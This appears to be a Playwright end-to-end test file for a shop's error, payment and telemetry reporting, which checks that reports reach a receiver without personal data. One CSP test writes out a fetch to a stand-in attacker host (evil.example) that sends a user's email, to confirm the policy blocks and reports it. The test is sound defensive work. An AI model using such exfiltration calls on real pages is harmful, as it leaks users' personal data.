import { readFileSync } from 'node:fs'
import type { Page } from '@playwright/test'
import { expect } from '#tests/e2e/fixtures.ts'
import { cards, enterCard } from '#tests/e2e/real/support/cardProvider.ts'
import { reportUrl, test, type Receiver } from '#tests/e2e/real/support/reportingShop.ts'
import { createAccount, placeOrder } from '#tests/e2e/real/support/world.ts'
import { gzippedKB, readManifest, scriptsOf } from '#tests/support/bundle.ts'
import { expectStarted, heading, logIn } from '#tests/e2e/steps.ts'

// One worker: the tests share a build and its receiver.
test.describe.configure({ mode: 'default' })
// The browser measures what it paints.
test.use({ isPainted: true })

const rina = { name: 'Rina Akter', email: 'rina.akter@reports.example', password: 'Workshop!25' }

/** Opens a page, and waits until the reports' code is there. */
async function open(page: Page, path: string): Promise<void> {
  const isLoaded = page.waitForResponse(async (response) =>
    response.url().endsWith('.js') ? (await response.text().catch(() => '')).includes('reports+json') : false,
  )
  await page.goto(path)
  await expectStarted(page)
  await isLoaded
}

const openFromMenu = (page: Page, link: string) =>
  page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: link }).click()

/** Throws in the page, outside of every boundary. */
const throwError = (page: Page, message: string) =>
  page.evaluate((text) => void setTimeout(() => void Promise.reject(new TypeError(text))), message)

/** Expects exactly these reports, and nothing personal in any. */
async function expectReports(receiver: Receiver, page: Page, ...expected: object[]): Promise<void> {
  await expect.poll(() => receiver.reports.map(({ type, body }) => ({ type, body }))).toMatchObject(expected)
  for (const { url, user_agent, age, body } of receiver.reports) {
    expect(url).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/[a-zA-Z/:]*$/)
    expect(user_agent).toBe(await page.evaluate(() => navigator.userAgent))
    expect(age).toBeGreaterThanOrEqual(0)
    expect(body.release).toMatch(/^[\w.-]+$/)
  }
  const text = JSON.stringify(receiver.reports.map(({ user_agent: _, ...rest }) => rest))
  for (const personal of [rina.name, 'Rina', rina.email, rina.password, '_secret_', 'Bearer', '?', cards.good])
    expect(text).not.toContain(personal)
}

test.describe('a shop that reports', { tag: '@release' }, () => {
  test('an error in a page arrives once, with its place in the shop’s files, without what a person typed', async ({
    page,
    receiver,
  }) => {
    const error = `throw new TypeError('${rina.name} is not a function')`
    await page.route('**/assets/AboutRoute-*.js', (route) =>
      route.fulfill({ contentType: 'text/javascript', body: `export function AboutRoute() { ${error} }` }),
    )
    await open(page, './parts?q=Rina')
    await throwError(page, `${rina.name} is not a function`)
    await throwError(page, `${rina.name} is not a function`)
    const thrown = { type: 'error', body: { source: 'promise', name: 'TypeError', message: '… is not a function' } }
    await expectReports(receiver, page, thrown)
    await openFromMenu(page, 'About')
    await expect(heading(page, 'This could not be loaded')).toBeVisible()
    const stack = expect.arrayContaining([expect.stringMatching(/^assets\/AboutRoute-[\w-]+\.js:1:\d+$/)])
    await expectReports(receiver, page, thrown, { type: 'error', body: { source: 'boundary', page: 'about', stack } })
  })

  test('charged but not recorded, then recovered: with the ids by which it can be looked up', async ({
    page,
    receiver,
    cardProvider,
  }) => {
    await createAccount(rina)
    const order = await placeOrder(rina, 'brake-rotor-345', 22)
    await page.route('**/api/mypurchase/*', (route) =>
      route.request().method() === 'PATCH' ? route.abort() : route.fallback(),
    )
    await open(page, `./dashboard/payment/${order}`)
    await logIn(page, rina)
    await enterCard(page, cards.good)
    await page.getByRole('button', { name: /Payment Confirm/ }).click()
    await expect(page.getByText('Payment Success')).toBeVisible()
    const transactionId = expect.stringMatching(/^pi_\w+$/)
    const failedCall = { type: 'failed-call', body: { call: 'recordPayment', kind: 'network', status: null } }
    const unrecorded = { type: 'payment', body: { state: 'unrecorded', orderId: order, transactionId } }
    await expectReports(receiver, page, failedCall, unrecorded)

    await page.unroute('**/api/mypurchase/*')
    await page.goto('./dashboard/mypurchases')
    await expect(page.getByText(/All-Ready Paid/)).toBeVisible()
    const recovered = { type: 'payment', body: { state: 'recovered', orderId: order } }
    await expectReports(receiver, page, failedCall, unrecorded, recovered)
    expect(cardProvider.charges).toHaveLength(1)
  })

  test('a violation of the page’s policy, by origin', async ({ page, receiver }) => {
    await open(page, './')
    await page.evaluate(
      (email) => fetch(`https://evil.example/collect?email=${email}`).then(String, () => null),
      rina.email,
    )
    const body = { effectiveDirective: 'connect-src', blockedURL: 'https://evil.example', page: 'home' }
    await expectReports(receiver, page, { type: 'csp-violation', body })
  })

  test('the vitals of a visit’s first page, when it is left', async ({ browser, reportingSite, receiver }) => {
    const page = await browser.newPage()
    await open(page, `${reportingSite}parts?q=Rina`)
    await page.waitForLoadState('networkidle')
    await page.goto(`${reportingSite}about`)
    const body = { LCP: expect.any(Number), CLS: expect.any(Number), TTFB: expect.any(Number), page: 'parts' }
    await expect.poll(() => receiver.vitals).toMatchObject([{ url: `${reportingSite}parts`, body }])
    await page.goto(`${reportingSite}contact`)
    await page.close()
    expect(receiver.vitals).toHaveLength(1)
  })

  test('what happens offline arrives when the line is back', async ({ page, context, receiver }) => {
    await open(page, './contact')
    await context.setOffline(true)
    await throwError(page, 'x is not a function')
    await expect.poll(() => page.evaluate(() => localStorage.getItem('dhruva.reports.v1'))).toContain('is not')
    expect(receiver.reports).toEqual([])
    await context.setOffline(false)
    await expectReports(receiver, page, { type: 'error', body: { name: 'TypeError', page: 'contact' } })
  })

  test('a blocked receiver changes nothing, and gets the report on the next visit without the blocker', async ({
    page,
    receiver,
  }) => {
    await page.route(`${reportUrl}**`, (route) => route.abort('blockedbyclient'))
    await open(page, './')
    await throwError(page, 'x is not a function')
    await page.waitForRequest((request) => request.method() === 'POST')
    await openFromMenu(page, 'Contact')
    await expect(heading(page, /contact/i)).toBeVisible()
    // A page that is left sends once more: that must be blocked, too.
    await page.goto('about:blank')
    await page.unroute(`${reportUrl}**`)
    await page.goto('./about')
    await expectReports(receiver, page, { type: 'error', body: { name: 'TypeError', page: 'home' } })
  })

  test('the first load grows by 0.3 kB, and the rest has 5.5 kB (REPORT-3)', ({ reportingDir }) => {
    expect(readFileSync('dist/_headers', 'utf8')).not.toMatch(/report/i)
    const firstLoadOf = (dir: string) => gzippedKB(dir, scriptsOf(readManifest(dir), 'index.html'))
    expect(firstLoadOf(reportingDir) - firstLoadOf('dist')).toBeLessThan(0.3)
    const rest = Object.entries(readManifest(reportingDir)).find(([key]) => key.endsWith('/sendReports.ts'))
    expect(gzippedKB(reportingDir, [rest?.[1].file ?? ''])).toBeLessThan(5.5)
  })
})
